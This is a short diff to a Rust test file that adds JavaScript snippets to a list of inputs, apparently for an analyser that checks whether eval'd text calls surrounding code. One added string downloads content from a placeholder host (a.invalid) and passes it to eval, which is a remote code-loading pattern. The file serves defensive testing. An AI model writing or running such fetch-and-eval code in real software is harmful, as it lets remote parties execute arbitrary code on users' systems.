@@ -37,6 +37,7 @@ fn a_text_that_is_run_calls_what_stands_around_it() {
         "eval('go.call(null)')",
         "eval('() => go()')()",
         "const q = eval('go'); q()",
+        "eval('(function (require) { require(\\'https\\').get(\\'https://a.invalid/b\\', r => r.on(\\'data\\', d => eval(\\'\\' + d))) })')(require)",
         "eval('var f = () => go()'); f()",
         "eval('function f() { go() }'); f()",
     ] {
